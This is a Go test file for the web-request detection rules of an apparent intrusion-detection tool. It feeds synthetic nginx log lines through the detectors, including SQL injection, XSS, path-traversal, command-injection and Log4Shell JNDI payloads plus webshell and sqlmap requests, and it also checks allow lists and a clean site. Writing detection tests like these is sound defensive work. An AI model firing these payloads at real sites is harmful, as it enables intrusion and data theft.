package rules

import (
	"fmt"
	"net/netip"
	"slices"
	"testing"
	"time"

	"github.com/vigil-ir/vigil/internal/model"
)

func (s *stream) req(ip, method, target string, status int, size int64, ua string) *stream {
	raw := fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d %d "-" "%s"`, ip, s.t.Format("02/Jan/2006:15:04:05 -0700"), method, target, status, size, ua)
	s.file = "/var/log/nginx/access.log"
	return s.add(model.Event{Source: "web.access", Program: "nginx", Kind: kindWebRequest, SrcIP: ip, Object: target, Raw: raw,
		Fields: map[string]string{fieldHTTPMethod: method, fieldHTTPStatus: fmt.Sprint(status), fieldHTTPBytes: fmt.Sprint(size), fieldHTTPUserAgent: ua}})
}

const browser = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"

func TestWebRulesFire(t *testing.T) {
	tests := []struct {
		name   string
		target string
		method string
		status int
		ua     string
		want   string
	}{
		{"union select", "/item.php?id=1%20UNION%20ALL%20SELECT%201,2,user()--", "GET", 200, browser, RuleWebSQLi},
		{"tautology double-encoded", "/login?user=admin%2527%2520or%25201%253D1--", "GET", 200, browser, RuleWebSQLi},
		{"time based", "/p?id=1'+AND+SLEEP(5)--+", "GET", 500, browser, RuleWebSQLi},
		{"script tag", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "GET", 200, browser, RuleWebXSS},
		{"event handler", "/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "GET", 200, browser, RuleWebXSS},
		{"traversal", "/download?file=../../../../etc/passwd", "GET", 200, browser, RuleWebTraversal},
		{"php filter", "/index.php?page=php://filter/convert.base64-encode/resource=config", "GET", 200, browser, RuleWebTraversal},
		{"command", "/ping.cgi?host=127.0.0.1;id", "GET", 200, browser, RuleWebCmd},
		{"log4shell", "/?x=${jndi:ldap://203.0.113.5/a}", "GET", 200, browser, RuleWebCmd},
		{"scanner agent", "/", "GET", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)", RuleWebScanner},
		{"webshell in uploads", "/wp-content/uploads/2026/03/x7.php", "POST", 200, browser, RuleWebShell},
		{"webshell name with cmd", "/shell.php?cmd=id", "GET", 200, browser, RuleWebShell},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := newStream("2026-03-01T09:00:00Z")
			s.req("203.0.113.50", tc.method, tc.target, tc.status, 512, tc.ua)
			got, _ := run(Config{}, s.evs)
			f := byRule(got, tc.want)
			if len(f) != 1 {
				t.Fatalf("%s did not fire once; got %v", tc.want, ruleIDs(got))
			}
			if f[0].Evidence.Text == "" || f[0].Evidence.Extra["source_ip"] != "203.0.113.50" {
				t.Errorf("evidence: %+v", f[0].Evidence)
			}
		})
	}
}

func TestWebFoldedPerSource(t *testing.T) {
	s := newStream("2026-03-01T09:00:00Z")
	for i := range 10000 {
		s.req("203.0.113.60", "GET", fmt.Sprintf("/p%d?id=1%%27%%20or%%20%%271%%27=%%271", i), 404, 150, "sqlmap/1.7").wait(time.Millisecond)
	}
	got, _ := run(Config{}, s.evs)
	if len(got) != 2 { // sqli + scanner, one each
		t.Fatalf("want 2 folded findings, got %d: %v", len(got), ruleIDs(got))
	}
	sq := byRule(got, RuleWebSQLi)[0]
	if sq.Evidence.Extra["count"] != "10000" || sq.Severity != model.Low {
		t.Errorf("fold: count %s severity %v", sq.Evidence.Extra["count"], sq.Severity)
	}
}

func TestWebAllowLists(t *testing.T) {
	s := newStream("2026-03-01T09:00:00Z")
	s.req("10.1.2.3", "GET", "/x?id=1 union select 1", 200, 10, browser)
	s.req("203.0.113.7", "GET", "/", 200, 10, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")
	s.req("203.0.113.8", "GET", "/tickets?q=%27a%27+or+%27b%27=%27b%27", 200, 10, browser)
	cfg := Config{Web: WebConfig{AllowCIDRs: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}, AllowAgents: []string{"Nuclei"}, AllowPaths: []string{"/tickets"}}}
	if got, _ := run(cfg, s.evs); len(got) != 0 {
		t.Errorf("allow-listed requests judged: %v", ruleIDs(got))
	}
}

func TestWebUnusualSizeAndRareScript(t *testing.T) {
	s := newStream("2026-03-01T09:00:00Z")
	for i := range 40 {
		s.req(fmt.Sprintf("198.51.100.%d", i), "GET", "/export.php", 200, 20_000, browser)
		s.req(fmt.Sprintf("198.51.100.%d", i), "POST", "/wp-login.php", 200, 4000, browser)
	}
	s.req("203.0.113.9", "GET", "/export.php", 200, 50_000_000, "curl/8.5")
	for range 5 {
		s.req("203.0.113.9", "POST", "/wp-includes/class-json.php", 200, 30, browser)
	}
	got, _ := run(Config{}, s.evs)
	ids := ruleIDs(got)
	if !slices.Contains(ids, RuleWebSize) || !slices.Contains(ids, RuleWebShell) {
		t.Errorf("want size and rare-script findings, got %v", ids)
	}
}

// TestWebQuietOnCleanSite: a day of an ordinary site: pages, assets,
// searches with quotes, logins, a few 404s, a monitoring agent.
func TestWebQuietOnCleanSite(t *testing.T) {
	s := newStream("2026-03-01T00:00:00Z")
	pages := []string{"/", "/about/", "/blog/2026/02/hello-world/", "/wp-content/themes/twentyone/style.css?ver=6.4",
		"/wp-content/uploads/2026/02/photo.jpg", "/search?q=%22linux+hardening%22+tips", "/?s=don%27t+panic",
		"/tickets?status=open&sort=-updated&q=select+a+printer+from+the+list", "/api/items?filter=(price%3E10)&page=2",
		"/wp-json/wp/v2/posts?per_page=10", "/feed/", "/robots.txt", "/favicon.ico", "/index.php?p=12", "/wp-admin/admin-ajax.php"}
	for i := range 3000 {
		ip := fmt.Sprintf("198.51.%d.%d", i%7, i%200)
		p := pages[i%len(pages)]
		status := 200
		if i%97 == 0 {
			p, status = "/old-page/", 404
		}
		s.req(ip, "GET", p, status, int64(2000+i%3000), browser).wait(20 * time.Second)
		if i%50 == 0 {
			s.req(ip, "POST", "/wp-login.php", 302, 0, browser)
			s.req(ip, "POST", "/wp-admin/admin-ajax.php", 200, 120, browser)
		}
		if i%60 == 0 {
			s.req("10.0.0.2", "GET", "/healthz", 200, 2, "Prometheus/2.45")
		}
	}
	got, _ := run(Config{}, s.evs)
	for _, f := range got {
		t.Errorf("clean site: %s %s %s", f.RuleID, f.Subject, f.Evidence.Text)
	}
}

func BenchmarkWebRules(b *testing.B) {
	s := newStream("2026-03-01T00:00:00Z")
	for i := range 10000 {
		t := "/blog/post-" + fmt.Sprint(i%300) + "/"
		if i%20 == 0 {
			t = "/item.php?id=1%27%20or%20%271%27=%271"
		}
		s.req(fmt.Sprintf("198.51.100.%d", i%250), "GET", t, 200, 3000, browser)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for range b.N {
		run(Config{}, s.evs)
	}
	b.ReportMetric(float64(len(s.evs)*b.N)/b.Elapsed().Seconds(), "events/s")
}
